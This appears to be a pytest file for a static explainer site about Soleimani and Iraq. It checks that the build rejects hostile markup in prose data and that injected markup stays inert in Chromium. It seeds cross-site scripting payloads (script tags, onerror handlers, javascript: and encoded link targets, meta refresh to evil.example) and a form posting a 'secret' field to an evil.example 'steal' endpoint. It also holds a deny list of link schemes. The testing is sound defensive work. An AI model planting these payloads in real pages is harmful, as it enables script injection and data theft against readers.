"""Hostile and mistaken prose (issue 30): refused at build time at its exact file:line, and, should
it ever reach a page, inert in Chromium on the served site (here) and the offline copy
(test_offline.py): no navigation away, no dialog, no request to another host, no script run."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import markdown
import pytest

from browser import Watch
from explainer import prose_rules
from sitecopy import build_copy, copy_project

# (file, text to replace, hostile text put in its place, the token that marks its line, rule)
SEEDS = [
    # A folded (>) definition: the lines come from the file as written, not from the folded text.
    ("data/actors.yml", "    Iranian major general who led", "    Iranian <script>alert(1)</script> major general who led",
     "<script>alert(1)", "raw-html"),
    ("data/actors.yml", "Revolutionary Guards, from the late 1990s until his death in January 2020.",
     'Revolutionary Guards, from the late 1990s until his death in January 2020.\n'
     '    <meta http-equiv="refresh" content="0; url=https://evil.example/">', '<meta http-equiv', "raw-html"),
    # A literal (|) block, and HTML inside the shown text of a glossary link.
    ("data/actors.yml", "    He managed Iran's ties", '    He <img src="x" onerror="alert(1)"> managed Iran\'s ties',
     "<img src", "raw-html"),
    ("data/actors.yml", "together with [[muhandis]]. The author", "together with [[muhandis|<em>Muhandis</em>]]. The author",
     "[[muhandis|<em>", "raw-html"),
    # A plain one-line value, and a quoted one.
    ("data/actors.yml", "  fate: Died on [[date:soleimani-muhandis-killed]] when",
     "  fate: Died ([click](javascript:alert(1))) on [[date:soleimani-muhandis-killed]] when", "[click](javascript", "link-target"),
    ("data/actors.yml", 'text: "Born in Kerman province, Iran."', "text: \"Born <a href='javascript:alert(1)'>here</a> in Kerman province, Iran.\"",
     "<a href='javascript", "raw-html"),
    ("data/actors.yml", "    Former journalist and head of Iraq's National Intelligence Service",
     '    Former <iframe src="https://evil.example/"></iframe> journalist and head of Iraq\'s National Intelligence Service',
     "<iframe", "raw-html"),
    ("data/actors.yml", "    minister from May 2020 to October 2022.",
     '    minister <form action="https://evil.example/"><button>Go</button></form> from May 2020 to\n'
     "    <style>body { display: none }</style> October 2022.", "<form action", "raw-html"),
    ("data/actors.yml", "<style>body", "<style>body", "<style>body", "raw-html"),  # placed by the seed above
    ("data/events.yml", "    A US-led coalition launches its invasion",
     "    A US-led [coalition](data:text/html;base64,PHNjcmlwdD4=) launches its invasion", "(data:text", "link-target"),
    ("data/events.yml", "    and begins a long American military presence",
     "    and begins a [long](http://example.com/) American military presence", "(http://example", "link-target"),
    ("data/passages/background.yml", "      Tehran, at a lethal price,",
     '      Tehran, <span id="spoof" data-moved-to="https://evil.example/">at</span> a lethal price,', '<span id="spoof"', "raw-html"),
    ("data/passages/background.yml", "      inside Iraq.\n", "      inside Iraq [x](&#106;avascript:alert(1)).\n", "(&#106;", "link-target"),
    ("data/passages/background.yml", "        carried out by a US MQ-9 Reaper drone.",
     '        carried out by a US MQ-9 Reaper drone { #spoof2 data-moved-to="https://evil.example/" }.', "{ #spoof2", "attr-list"),
    # The drawings' text is prose too (the connections page lists it as Markdown).
    ("data/visuals.yml", "text: A US drone strike kills Soleimani,", "text: A US drone strike <b>kills</b> Soleimani,",
     "<b>kills", "raw-html"),
    # Hand-written pages: the same build reports them with the data's mistakes, front matter included.
    ("docs/about.md", "title: Method\n", "title: Method<script>alert('title')</script>\n", "<script>alert('title')", "page-html"),
    ("docs/about.md", "## Who this is for { #audience }\n",
     "## Who this is for { #audience }\n\n<script>alert(1)</script>\n", "<script>alert(1)", "page-html"),
    ("docs/about.md", "Readers who meet the article,", 'Readers <a href="#" onclick="alert(1)">who</a> meet the article,',
     '"#" onclick', "page-html"),
    ("docs/about.md", "quickly: what it claims,", "quickly: [what](JavaScript:alert(1)) it claims,", "(JavaScript:", "link-target"),
    ("docs/about.md", "own address and makes sense read alone.\n",
     'own address and makes sense read alone.\n\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n'
     '<iframe src="https://evil.example/"></iframe>\n<form action="https://evil.example/"></form>\n'
     '<style>body { display: none }</style>\n<p class="moved-note" data-moved-to="https://evil.example/">x</p>\n',
     "<meta http-equiv", "page-html"),
    ("docs/about.md", "<iframe src", "<iframe src", "<iframe src", "page-html"),
    ("docs/about.md", "<form action", "<form action", "<form action", "page-html"),
    ("docs/about.md", "<style>body", "<style>body", "<style>body", "page-html"),
    ("docs/about.md", '<p class="moved-note"', '<p class="moved-note"', '<p class="moved-note"', "page-html"),
    ("docs/about.md", "## The article { #the-article }", '## The article { #the-article onclick="alert(1)" }', 'onclick="alert(1)" }',
     "page-html"),
]
# HTML and links a page may hold: a comment, Markdown inside a block, an https link, a fragment.
HARMLESS_PAGE = ('\n<!-- a note to writers -->\n<div markdown>\nSee [the overview](index.md), [a fragment](#audience) '
                 'and [an outside page](https://example.org/).\n</div>\n')


def line_of(path: Path, token: str) -> int:
    text = path.read_text(encoding="utf-8")
    assert text.count(token) == 1, (path, token, text.count(token))
    return text[: text.index(token)].count("\n") + 1


def test_hostile_prose_fails_the_build_at_each_exact_line(tmp_path):
    """One copy with every seeded mistake: one build reports them all, data and pages together."""
    root = copy_project(tmp_path / "copy")
    for file, old, new, _, _ in SEEDS:
        path = root / file
        text = path.read_text(encoding="utf-8")
        assert old in text, (file, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    about = root / "docs" / "about.md"
    about.write_text(about.read_text(encoding="utf-8") + HARMLESS_PAGE, encoding="utf-8")
    expected = {(f"{file}:{line_of(root / file, token)}", rule) for file, _, _, token, rule in SEEDS}
    result = build_copy(root)
    assert result.returncode == 1
    reported = set(re.findall(r"^\s+(\S+:\d+): .* \[rule ([a-z-]+)\]$", result.stderr, re.MULTILINE))
    assert reported == expected, (sorted(expected - reported), sorted(reported - expected), result.stderr[-3000:])
    assert "Traceback" not in result.stderr
    # The case, word for word as the writer sees it.
    line = line_of(root / "data/actors.yml", "<meta http-equiv")
    assert f"data/actors.yml:{line}: raw HTML <meta>: data prose is Markdown, not HTML" in result.stderr


@pytest.mark.parametrize("target, refused", [
    ("https://example.org/a?b#c", False), ("../glossary/sistani.md#role", False), ("#fragment", False), ("/about/", False),
    ("javascript:alert(1)", True), (" JaVaScRiPt:alert(1)", True), ("java\tscript:alert(1)", True),
    ("java&#x09;script:alert(1)", True), ("&#106;avascript:x", True), ("&amp;#106;avascript:x", True),
    ("vbscript:msgbox", True), ("data:text/html,x", True), ("http://example.org/", True), ("//evil.example/", True),
    ("/\\evil.example/", True), ("\x01javascript:x", True), ("mailto:a@b.c", True),
])
def test_link_targets(target, refused):
    assert (prose_rules.target_problem(target) is not None) == refused


def test_outside_links_get_noopener():
    md = markdown.Markdown(extensions=["attr_list", "explainer.outside_links"])
    out = md.convert('[a](https://example.org/) [b](https://example.org/){ rel="external" } [c](../x.md) [d](#e)')
    assert out == ('<p><a href="https://example.org/" rel="noopener">a</a> '
                   '<a href="https://example.org/" rel="external noopener">b</a> <a href="../x.md">c</a> <a href="#e">d</a></p>')


# ----- In the browser ----------------------------------------------------------------------------
# Markup that the build refuses, put straight into a built page as if something had let it through.
# What must stop it there: the CSP (scripts, handlers, javascript: links, frames, forms, styles)
# and the moved-fragment script (spoofed notes). <meta http-equiv=refresh> is not here: no
# policy can stop it, only the build check above.
HOSTILE_HTML = """<div id="hostile">
<script>window.__pwned = "inline script"</script>
<img src="nowhere.png" onerror="window.__pwned = 'onerror'">
<a id="js-link" href="javascript:void(window.__pwned = 'javascript link')">a javascript: link</a>
<a id="js-alert" href=" JaVaScRiPt:alert('javascript')">an alert</a>
<iframe src="https://evil.example/frame"></iframe>
<form id="evil-form" action="https://evil.example/steal" method="post"><input name="q" value="secret"><button id="evil-send">Send</button></form>
<style>body { display: none !important }</style>
<span id="spoof" data-moved-to="https://evil.example/">a spoofed moved fragment</span>
</div>
<p id="spoof-note" class="moved-note" data-moved-to="https://evil.example/">a spoofed note</p>
<p id="spoof-file" class="moved-note" data-moved-to="file:///etc/passwd">a spoofed note to a file</p>
<p id="spoof-js" class="moved-note" data-moved-to="javascript:window.__pwned='moved'">a spoofed note to script</p>
<p id="legit-note" class="moved-note" data-moved-to="{legit}">a moved note as the build writes it</p>
"""


def inject(html: str, legit: str) -> str:
    assert "</article>" in html
    return html.replace("</article>", HOSTILE_HTML.replace("{legit}", legit) + "</article>", 1)


def hostile_visit(context, watch: Watch, url: str, own: str) -> list[str]:
    """Everything a reader could trigger on the hostile page; returns what went wrong."""
    page = watch.page(context)
    dialogs, away = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("framenavigated", lambda f: f == page.main_frame and not f.url.startswith((own, "about:blank")) and away.append(f.url))
    wrong = []
    for fragment in ["spoof", "spoof-note", "spoof-file", "spoof-js"]:
        page.goto("about:blank")
        page.goto(f"{url}#{fragment}", wait_until="load")
        page.wait_for_timeout(150)
        if not page.url.startswith(url):
            wrong.append(f"#{fragment} left the page for {page.url}")
    for selector in ["#js-link", "#js-alert", "#evil-send"]:
        page.click(selector, no_wait_after=True)
        page.wait_for_timeout(150)
        if not page.url.startswith(url):
            wrong.append(f"{selector} left the page for {page.url}")
            page.goto(url, wait_until="load")
    state = page.evaluate("() => [window.__pwned || null, getComputedStyle(document.body).display]")
    if state[0]:
        wrong.append(f"script ran: {state[0]}")
    if state[1] == "none":
        wrong.append("the injected style applied")
    # The moved note the build writes still takes the reader on (same site).
    page.goto("about:blank")
    page.goto(f"{url}#legit-note", wait_until="load")
    page.wait_for_url(lambda u: "#legit-note" not in u, timeout=5_000)
    wrong += [f"dialog: {m}" for m in dialogs] + [f"navigated to {u}" for u in away]
    wrong += [f"request to {u}" for u in watch.foreign]
    page.close()
    return wrong


@pytest.mark.browser
def test_hostile_markup_in_a_served_page_is_inert(chromium, server, built_site):
    """The served site's policy and the moved-fragment script, on one glossary entry."""
    address = "glossary/soleimani/"
    body = inject((built_site / address / "index.html").read_text(encoding="utf-8"), "../../background/")
    watch = Watch(server.url)
    context = chromium.new_context()
    watch.attach(context)
    context.route(server.url + address, lambda route: route.fulfill(status=200, content_type="text/html", body=body))
    wrong = hostile_visit(context, watch, server.url + address, server.url)
    context.close()
    assert not wrong, wrong
